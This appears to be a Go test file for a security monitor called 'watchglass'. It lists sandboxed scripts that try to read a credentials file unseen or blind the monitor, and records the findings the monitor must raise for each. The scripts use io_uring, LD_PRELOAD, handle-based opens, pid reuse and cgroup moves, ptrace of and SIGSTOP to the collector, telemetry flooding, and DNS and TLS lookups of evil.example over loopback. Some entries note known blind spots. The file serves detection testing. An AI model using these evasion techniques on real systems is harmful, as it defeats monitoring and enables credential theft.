@@ -1,0 +1,235 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package adversary
+
+// attempt is one way to act unseen.
+type attempt struct {
+	name string
+	// script is run by bash in a sandbox. $SECRET is a secret, $EVADE the C helper, $PYTHON a Python, $PORT a TCP port
+	// on loopback that takes connections, $DATAGRAM a UDP one, $SOCKET and @$ABSTRACT unix sockets outside of the sandbox, of
+	// which the first hands out the opened secret.
+	script string
+	// want is what must be told, each as "kind body", a regular expression of an event's kind without "watchglass." and
+	// its body; "N× " before it for at least N of them.
+	want []string
+	// config is what the attempt needs of the configuration.
+	config string
+	// reuse says that two processes must be told which had one pid.
+	reuse bool
+	// limit is why it is not seen, as docs/limits.md says; "" for what is.
+	limit string
+}
+
+const (
+	readSecret  = `finding .*secret-read: .*credentials`
+	movedSecret = `finding .*secret-(moved|read): .*credentials`
+)
+
+// attempts is all of them.
+func attempts() []attempt {
+	return []attempt{
+		{
+			name:   "fork bomb",
+			script: `$PYTHON -c 'import os,sys' ; for i in $(seq 4); do (for j in $(seq 100); do (:) & done; wait) & done; wait; cat "$SECRET"`,
+			want:   []string{`400× process\.exit .`, readSecret},
+		},
+		{
+			name: "a million opens, then a secret",
+			script: `$PYTHON -c '
+import os
+for i in range(1000): open("f%d" % i, "w").close()
+for i in range(1000000): os.close(os.open("f%d" % (i % 1000), 0))
+open(os.environ["SECRET"]).read()'`,
+			want: []string{readSecret},
+		},
+		{name: "io_uring", script: `"$EVADE" uring "$SECRET"`, want: []string{readSecret}},
+		{
+			name: "openat2 with RESOLVE flags",
+			script: `cd "$HOME" && $PYTHON -c '
+import ctypes,os,struct
+how=struct.pack("QQQ",0,0,0x08|0x04|0x02)
+fd=ctypes.CDLL(None).syscall(437,-100,b".aws/credentials",how,24)
+assert fd>=0; os.read(fd,1)'`,
+			want: []string{readSecret},
+		},
+		{name: "arguments rewritten by a thread", script: `"$EVADE" race "$SECRET"`, want: []string{readSecret}},
+		{name: "a path on a cold page", script: `"$EVADE" cold "$SECRET"`, want: []string{readSecret}},
+		{
+			name:   "/proc/self/mem",
+			script: `$PYTHON -c 'open("/proc/self/mem","r+b")'`,
+			want:   []string{`file\.open .*/proc/(self|\d+)/mem`},
+		},
+		{name: "/proc/PID/root", script: `cat /proc/$$/root"$SECRET"`, want: []string{readSecret}},
+		{
+			name:   "a bind mount over an innocent path",
+			script: `touch innocent; unshare -m sh -c 'mount --bind "$SECRET" innocent && cat innocent'`,
+			want:   []string{`syscall\.notable (mount|open_tree)\(.*credentials`, `finding .*secret-read: .*innocent`},
+		},
+		{name: "a hard link to a secret", script: `ln "$SECRET" innocent && cat innocent`, want: []string{movedSecret, `file\.open .*innocent`}},
+		{name: "rename, then read", script: `mv "$SECRET" innocent && cat innocent`, want: []string{movedSecret, `file\.open .*innocent`}},
+		{name: "open_by_handle_at", script: byHandle + `
+fd=libc.syscall(304,mount,handle,0); assert fd>=0; os.read(fd,1)'`, want: []string{`syscall\.notable open_by_handle_at`, readSecret}},
+		{name: "name_to_handle_at, and another process opens", script: byHandle + `
+if os.fork()==0:
+  fd=libc.syscall(304,mount,handle,0); os.read(fd,1); os._exit(0)
+os.wait()'`, want: []string{readSecret}},
+		{
+			name: "memfd and fexecve",
+			script: `$PYTHON -c '
+import os
+fd=os.memfd_create("innocent",0); os.write(fd,open("/bin/true","rb").read()); os.execve(fd,["true"],{})'`,
+			want: []string{`syscall\.notable memfd_create`, `finding .*unbacked-exec`},
+		},
+		{
+			name:   "a script by its interpreter",
+			script: `printf '#!/bin/cat\nx' >innocent; chmod +x innocent; ./innocent`,
+			want:   []string{`process\.exec .*/bin/cat \./innocent`},
+		},
+		{
+			name: "LD_PRELOAD",
+			script: `printf '#include <fcntl.h>\n#include <unistd.h>\n#include <stdlib.h>\n__attribute__((constructor)) static void go(void){char b;int f=open(getenv("SECRET"),O_RDONLY);(void)!read(f,&b,1);}' >p.c
+cc -shared -fPIC -o p.so p.c && LD_PRELOAD=$PWD/p.so /bin/true`,
+			want: []string{`file\.map .*/p\.so`, readSecret},
+		},
+		{
+			name:   "vfork",
+			script: `$PYTHON -c 'import os; os.waitpid(os.posix_spawn("/bin/cat",["cat",os.environ["SECRET"]],os.environ),0)'`,
+			want:   []string{`process\.exec cat .*credentials`, readSecret},
+		},
+		{
+			name: "a pid used again",
+			script: `sh -c 'echo $$' >pid; pid=$(cat pid)
+for i in $(seq 200); do echo $((pid-1)) >/proc/sys/kernel/ns_last_pid; sh -c 'echo $$ >pid; cat "$SECRET" >/dev/null'; [ "$(cat pid)" != "$pid" ] || exit 0; done; exit 1`,
+			want:  []string{readSecret},
+			reuse: true,
+		},
+		{
+			name: "nested cgroups, and a move out",
+			script: `top=$(sed -n 's/^0:://p' /proc/self/cgroup); fs=$(awk '$3=="cgroup2"{print $2; exit}' /proc/mounts)
+mkdir -p "$fs$top/a/b"; echo $$ >"$fs$top/a/b/cgroup.procs"; cat "$SECRET"; echo $$ >"$fs/cgroup.procs"; head -c1 "$SECRET"
+echo $$ >"$fs$top/cgroup.procs"; rmdir "$fs$top/a/b" "$fs$top/a"`,
+			want: []string{`2× process\.move .`, readSecret, `file\.open read .*credentials`, `process\.exec head .*credentials`},
+		},
+		{
+			name:   "unshare and mount",
+			script: `unshare -m sh -c 'mkdir m; mount -t tmpfs none m; cp "$SECRET" m/innocent; cat m/innocent'`,
+			want:   []string{`syscall\.notable unshare\(CLONE_NEWNS`, readSecret, `file\.open .*m/innocent`},
+		},
+		{name: "32-bit system calls", script: `"$EVADE" compat "$SECRET"`, want: []string{readSecret}},
+		{
+			name: "a secret opened elsewhere and handed over",
+			script: `$PYTHON -c '
+import os,socket
+s=socket.socket(socket.AF_UNIX); s.connect(os.environ["SOCKET"])
+_,fds,_,_=socket.recv_fds(s,1,1); assert os.read(fds[0],1)'`,
+			want: []string{`network\.socket connect unix .*handover`, `file\.io read .*credentials`},
+		},
+		{
+			name:   "an abstract socket of the host",
+			script: `$PYTHON -c 'import os,socket; socket.socket(socket.AF_UNIX).connect("\0"+os.environ["ABSTRACT"])'`,
+			want:   []string{`network\.socket connect unix .*@watchglass-adversary`},
+		},
+		{
+			name: "DNS over another port",
+			script: `$PYTHON -c '
+import os,socket
+q=b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x04evil\x07example\0\0\1\0\1"
+socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(q,("127.0.0.1",int(os.environ["DATAGRAM"])))'`,
+			want: []string{`network\.connect .*127\.0\.0\.1:\d+`},
+		},
+		{
+			name: "the question of DNS over another port",
+			script: `$PYTHON -c '
+import os,socket
+q=b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x04evil\x07example\0\0\1\0\1"
+socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(q,("127.0.0.1",int(os.environ["DATAGRAM"])))'`,
+			want:  []string{`dns\.\S+ .*evil\.example`},
+			limit: "names are read from port 53 alone",
+		},
+		{
+			name: "a finding of a secret that was handed over",
+			script: `$PYTHON -c '
+import os,socket
+s=socket.socket(socket.AF_UNIX); s.connect(os.environ["SOCKET"])
+_,fds,_,_=socket.recv_fds(s,1,1); assert os.read(fds[0],1)'`,
+			want:  []string{readSecret},
+			limit: "a secret that another opened is told as watchglass.file.io, not found",
+		},
+		{
+			name: "SNI in segments of one byte",
+			script: `$PYTHON -c '
+import os,socket,ssl,time
+o=ssl.MemoryBIO(); c=ssl.create_default_context().wrap_bio(ssl.MemoryBIO(),o,server_hostname="evil.example")
+try: c.do_handshake()
+except ssl.SSLWantReadError: pass
+s=socket.create_connection(("127.0.0.1",int(os.environ["PORT"]))); s.setsockopt(socket.IPPROTO_TCP,socket.TCP_NODELAY,1)
+for b in o.read(): s.send(bytes([b]))
+time.sleep(0.3)'`,
+			want: []string{`(tls|network)\.\S+ .*evil\.example`},
+		},
+		{
+			name:   "an IPv4 address mapped into IPv6",
+			script: `$PYTHON -c 'import os,socket; socket.socket(socket.AF_INET6).connect(("::ffff:127.0.0.1",int(os.environ["PORT"])))'`,
+			want:   []string{`network\.connect .*127\.0\.0\.1:\d+`},
+		},
+		{
+			name:   "raw sockets",
+			script: `$PYTHON -c 'import socket; socket.socket(socket.AF_INET,socket.SOCK_RAW,1); socket.socket(socket.AF_PACKET,socket.SOCK_RAW)'`,
+			want:   []string{`finding .*raw-socket: .* inet socket`, `finding .*raw-socket: .* packet socket`},
+		},
+		{
+			name:   "ptrace of the tracer",
+			script: `"$EVADE" ptrace $PPID; cat "$SECRET"`,
+			want:   []string{`syscall\.notable ptrace\(PTRACE_(ATTACH|SEIZE)`, readSecret},
+		},
+		{
+			name:   "signals to the collector",
+			script: `kill -STOP $PPID; kill -CONT $PPID; cat "$SECRET"`,
+			want:   []string{`syscall\.notable (kill|signal|SIG).*STOP`, readSecret},
+		},
+		{
+			name:   "filling the ring",
+			config: "kernel: {ring_bytes: 65536}\n",
+			script: `$PYTHON -c '
+import os
+for i in range(200000):
+  try: os.close(os.open("nothing%d" % i, 0))
+  except OSError: pass' ; cat "$SECRET"`,
+			want: []string{`telemetry\.loss .`, `process\.exec cat .*credentials`, readSecret},
+		},
+		{
+			name: "filling every map",
+			script: `$PYTHON -c '
+import os,socket
+for i in range(20000):
+  n="f%d" % i
+  open(n,"w").close(); open(n).close(); open(n).close()
+k=[]
+for i in range(9000):
+  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b"x",("127.%d.%d.1" % (i//250,i%250),9)); s.close()
+for i in range(500): k.append(socket.create_connection(("127.0.0.1",int(os.environ["PORT"]))))
+'; cat "$SECRET"`,
+			want: []string{`process\.exec cat .*credentials`, readSecret},
+		},
+		{
+			name:   "filling the map of cgroups",
+			config: "kernel: {max_sandboxes: 64}\n",
+			script: `top=$(sed -n 's/^0:://p' /proc/self/cgroup); fs=$(awk '$3=="cgroup2"{print $2; exit}' /proc/mounts)
+for i in $(seq 100); do mkdir "$fs$top/$i"; done; echo $$ >"$fs$top/100/cgroup.procs"; cat "$SECRET"
+echo $$ >"$fs$top/cgroup.procs"; for i in $(seq 100); do rmdir "$fs$top/$i"; done; sleep 2`,
+			want: []string{`telemetry\.loss .*cgroup`, readSecret},
+		},
+		{
+			name:   "the clock is set",
+			script: `$PYTHON -c 'import time; time.clock_settime(time.CLOCK_REALTIME,time.clock_gettime(time.CLOCK_REALTIME))'; cat "$SECRET"`,
+			want:   []string{`syscall\.notable clock_settime`, readSecret},
+		},
+	}
+}
+
+// byHandle finds a secret's handle.
+const byHandle = `$PYTHON -c '
+import ctypes,os,struct
+libc=ctypes.CDLL(None); handle=ctypes.create_string_buffer(struct.pack("Ii",128,0)+b"\0"*128); at=ctypes.c_int()
+assert libc.syscall(303,-100,os.environ["SECRET"].encode(),handle,ctypes.byref(at),0)==0
+mount=os.open(os.environ["HOME"],0)`
